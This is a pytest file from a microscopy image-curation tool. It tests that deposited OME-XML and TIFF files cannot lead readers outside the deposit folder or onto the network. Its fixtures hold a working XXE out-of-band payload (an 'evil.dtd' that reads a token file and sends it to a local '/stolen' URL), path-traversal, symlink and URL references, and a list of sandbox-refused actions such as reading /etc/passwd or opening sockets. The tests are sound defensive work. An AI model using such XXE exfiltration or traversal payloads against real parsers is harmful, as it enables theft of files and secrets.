"""Nothing that a deposit says makes a reader leave the deposit or touch the network."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import tifffile

from curate_fiji import api
from curate_fiji.core.log.state import State
from curate_fiji.runtime import doctor, door
from curate_fiji.workers import pool, seal

OUTSIDE = "leads outside"
NAMESPACE = "http://www.openmicroscopy.org/Schemas/OME/2016-06"
IMAGE = (
    '<Image ID="Image:0" Name="i"><Pixels ID="Pixels:0" DimensionOrder="XYCZT" Type="uint8" SizeX="200" '
    'SizeY="200" SizeC="1" SizeZ="1" SizeT="1"><Channel ID="Channel:0:0" SamplesPerPixel="1"/>{data}</Pixels>'
    "</Image>"
)


def ome(data: str = "<TiffData/>", doctype: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<OME xmlns="{NAMESPACE}">{IMAGE.format(data=data)}</OME>'


def naming(name: str) -> str:
    return ome(f'<TiffData IFD="0" PlaneCount="1"><UUID FileName="{name}">urn:uuid:2</UUID></TiffData>')


class Listener:
    """A server of this machine that notes what is asked of it."""

    def __init__(self, secret: Path) -> None:
        self.asked: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.asked.append(self.path)
                self.send_response(200)
                self.end_headers()
                if self.path.endswith("evil.dtd"):
                    stolen = f"{outer.url}/stolen?%file;"
                    self.wfile.write(
                        f'<!ENTITY % file SYSTEM "{secret.as_uri()}"><!ENTITY % eval "<!ENTITY &#x25; exfil '
                        f"SYSTEM '{stolen}'>\">%eval;%exfil;".encode()
                    )

            do_HEAD = do_GET

            def log_message(self, *_arguments: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def listener(tmp_path: Path) -> Iterator[Listener]:
    secret = tmp_path / "token.txt"
    secret.write_text("SECRETWORD")
    one = Listener(secret)
    yield one
    one.server.shutdown()
    one.server.server_close()


@pytest.fixture
def leading(tmp_path: Path, listener: Listener) -> Path:
    """A deposit whose files name others: elsewhere on the machine, on the network, or made up."""
    deposit, outside = tmp_path / "deposit", tmp_path / "outside"
    deposit.mkdir()
    outside.mkdir()
    plane = np.arange(40000, dtype=np.uint8).reshape(200, 200)
    tifffile.imwrite(outside / "photo.tif", plane)
    tifffile.imwrite(deposit / "inside.tif", plane)
    (deposit / "alias.tif").symlink_to(outside / "photo.tif")
    for name, target in (("rel", "../outside/photo.tif"), ("abs", str(outside / "photo.tif")), ("alias", "alias.tif"),
                         ("url", f"{listener.url}/x.tif"), ("numbered", "&#46;&#46;/outside/photo.tif"),
                         ("fine", "inside.tif")):  # fmt: skip
        (deposit / f"{name}.companion.ome").write_text(naming(target))
    tifffile.imwrite(
        deposit / "named.ome.tif", plane, description=naming("../outside/photo.tif"), metadata=None
    )
    doctype = (
        f'<!DOCTYPE OME SYSTEM "{listener.url}/x.dtd" [<!ENTITY % p SYSTEM "{listener.url}/evil.dtd">%p;]>'
    )
    (deposit / "dtd.companion.ome").write_text(ome(doctype=doctype))
    tifffile.imwrite(deposit / "dtd.ome.tif", plane, description=ome(doctype=doctype), metadata=None)
    (deposit / "wide.companion.ome").write_bytes(
        ome(doctype=doctype).replace("UTF-8", "UTF-16").encode("utf-16")
    )
    (deposit / "a.pattern").write_text("../outside/photo.tif")
    (deposit / "b.pattern").write_text(f"{listener.url}/<1-3>.tif")
    (deposit / "x&sizeX=20000&sizeY=20000&sizeZ=100000&series=5.fake").write_bytes(b"\0\1\2\3\4")
    return deposit


def refused(state: State) -> set[str]:
    return {path for path, one in state.records.items() if one.problem and one.problem.code == OUTSIDE}


@pytest.mark.parametrize("sealed", [True, False])
def test_files_elsewhere_and_addresses_are_refused_by_a_row(
    sealed: bool, leading: Path, listener: Listener, jars: tuple[Path, ...], monkeypatch: pytest.MonkeyPatch
) -> None:  # fmt: skip
    if not sealed:
        monkeypatch.setenv("CURATE_SEAL", "off")
    api.check(leading)
    state = api.open_curation(leading).state
    assert listener.asked == []
    assert {"rel.companion.ome", "abs.companion.ome", "alias.companion.ome", "url.companion.ome", "named.ome.tif",
            "numbered.companion.ome", "dtd.companion.ome", "dtd.ome.tif", "a.pattern",
            "b.pattern"} <= refused(state)  # fmt: skip
    for path in refused(state):
        assert state.records[path].opens == "no", path
        assert not state.records[path].series, path
        assert "deposit" in state.records[path].problem.text
    made_up = [one for path, one in state.records.items() if path.endswith(".fake")]
    assert [(one.opens, len(one.series)) for one in made_up] == [("no", 0)]
    assert state.records["fine.companion.ome"].opens == "yes"
    assert state.records["inside.tif"].opens == "yes"
    assert state.records["wide.companion.ome"].opens == "no"


def test_no_copy_is_made_of_what_lies_elsewhere(
    leading: Path, listener: Listener, jars: tuple[Path, ...]
) -> None:
    api.check(leading)
    _report, copies = api.transform(
        leading, ["rel.companion.ome", "named.ome.tif", "dtd.ome.tif", "inside.tif"]
    )
    assert [one.path for one in copies if one.receipt] == ["inside.tif"]
    assert all("deposit" in one.problem for one in copies if not one.receipt)
    assert listener.asked == []


def test_java_alone_fetches_nothing_that_xml_names(leading: Path, listener: Listener) -> None:
    """The parsers are asked directly, as a reader would that no check stands before."""
    code = (
        "import sys; from curate_fiji.runtime import door; door.start(door.resolve())\n"
        "from java.lang import Throwable; from loci.formats import ImageReader\n"
        "from loci.common.services import ServiceFactory; from loci.formats.services import OMEXMLService\n"
        "for path in sys.argv[1:]:\n"
        "    reader = ImageReader()\n"
        "    reader.setMetadataStore(ServiceFactory().getInstance(OMEXMLService).createOMEXMLMetadata())\n"
        "    try: reader.setId(path)\n"
        "    except Throwable: pass\n"
    )
    files = [str(leading / name) for name in ("dtd.companion.ome", "dtd.ome.tif", "wide.companion.ome")]
    subprocess.run([sys.executable, "-c", code, *files], check=True, capture_output=True)
    assert listener.asked == []


def test_refused_readers_are_asked_by_nobody_of_ours_and_stay_where_others_have_them(
    tmp_path: Path, jars: tuple[Path, ...]
) -> None:
    """Fiji's list of readers is everybody's: ours is another."""
    (tmp_path / "no image.bin").write_bytes(b"no image")
    (tmp_path / "made up&sizeX=9&sizeY=9.fake").write_bytes(b"")
    code = (
        "import sys; from curate_fiji.runtime import door; door.start(door.resolve())\n"
        "from curate_fiji import bioformats; from loci.formats import ImageReader\n"
        "named = lambda: {str(one.getSimpleName()) for one in ImageReader.getDefaultReaderClasses().getClasses()}\n"
        "before = named()\n"
        "print([bioformats.read_image(path).problem.code for path in sys.argv[1:]])\n"
        "print(named() == before, 'FakeReader' in before)\n"
    )
    files = sorted(str(one) for one in tmp_path.iterdir())
    done = subprocess.run([sys.executable, "-c", code, *files], check=True, capture_output=True, text=True)
    assert done.stdout.splitlines() == ["['unsupported', 'unsupported']", "True True"]


landlock = pytest.mark.skipif(
    not shutil.which("true") or not os.path.exists("/proc/self"), reason="this system has no Landlock"
)


@landlock
def test_a_worker_opens_no_other_file_and_no_socket_and_changes_nothing(
    tmp_path: Path, jars: tuple[Path, ...]
) -> None:
    deposit, scratch = tmp_path / "deposit", tmp_path / "scratch"
    for folder in (deposit, scratch):
        folder.mkdir()
    (deposit / "a.txt").write_text("a")
    (tmp_path / "other.txt").write_text("o")
    refused = [
        "open('/etc/hostname').read()", "open('/etc/passwd').read()", "open('/proc/1/environ').read()",
        "__import__('os').listdir('/home')", f"open({str(tmp_path / 'other.txt')!r}).read()",
        f"open({str(deposit / 'new')!r}, 'w').close()", f"open({str(deposit / 'a.txt')!r}, 'a').close()",
        f"__import__('os').remove({str(deposit / 'a.txt')!r})", f"__import__('os').mkdir({str(tmp_path / 'new')!r})",
        f"__import__('os').truncate({str(deposit / 'a.txt')!r}, 0)",
        *(f"__import__('socket').socket({family})" for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX)),
        "__import__('subprocess').check_output(['cat', '/etc/hostname'])",
    ]  # fmt: skip
    allowed = [f"open({str(deposit / 'a.txt')!r}).read()", f"open({str(scratch / 'new')!r}, 'w').close()"]
    place = pool.WorkFolders(tmp_path / "runtime.log", scratch, str(deposit))
    calls = [(one,) for one in refused + allowed]
    said = {
        call[0]: problem
        for call, _result, problem in pool.each(door.resolve(), eval, calls, pool.Limits(jobs=1), place)
    }
    for one in refused:
        assert "denied" in said[one] or "non-zero exit" in said[one], one
    assert [said[one] for one in allowed] == ["", ""]
    assert (deposit / "a.txt").read_text() == "a"


@landlock
def test_the_doctor_says_what_protects() -> None:
    text = {one.part: one.text for one in doctor.examine()}["Seal of the readers"]
    assert "Landlock" in text
    assert "no sockets" in text


def test_what_a_seal_can_not_do_is_said(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("CURATE_SEAL", "off")
    assert "CURATE_SEAL" in seal.apply([], str(tmp_path)).why
    monkeypatch.delenv("CURATE_SEAL")
    monkeypatch.setattr("sys.platform", "darwin")
    found = seal.apply([], str(tmp_path))
    assert (found.files, found.network) == ("", "")
    assert found.why
